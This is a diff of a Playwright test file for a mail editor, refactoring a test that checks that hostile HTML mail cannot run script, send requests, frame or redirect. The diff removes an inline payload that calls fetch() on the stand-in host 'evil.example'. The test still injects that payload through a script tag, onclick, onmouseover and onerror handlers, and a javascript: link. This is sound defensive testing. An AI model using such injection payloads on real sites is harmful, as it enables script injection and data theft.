@@ -3,6 +3,7 @@ import type { Frame, Page } from '@playwright/test';
 import { axeViolations } from '../support/axe.ts';
 import { ask, openEditor } from '../support/editor-harness.ts';
 import { expect, test } from '../support/test.ts';
+import { attack, watchAttack } from '../support/attack.ts';
 
 const mails = new URL('../../../shared/data/mails/', import.meta.url);
 const names = existsSync(mails) ? readdirSync(mails).filter((name) => name.endsWith('.html')) : [];
@@ -66,15 +67,7 @@ test.describe('the given mails (skipped where ../shared/data/mails is absent)', 
 test('a mail that wants to run, send, frame or lead away does none of it, and keeps its text', async ({
   page,
 }) => {
-  const strange: string[] = [];
-  page.on('request', (request) => {
-    if (request.url().includes('evil.example')) strange.push(request.url());
-  });
-  page.on('dialog', (dialog) => {
-    strange.push(dialog.message());
-    void dialog.dismiss();
-  });
-  const attack = "top.ran=1;parent.ran=1;fetch('https://evil.example/x')";
+  const strange = watchAttack(page);
   const hostile = layout(
     `<script>${attack}</script><p onclick="${attack}" onmouseover="${attack}">Hello</p>` +
       `<img src="/missing.png" onerror="${attack}"><a href="javascript:${attack}">link</a>` +
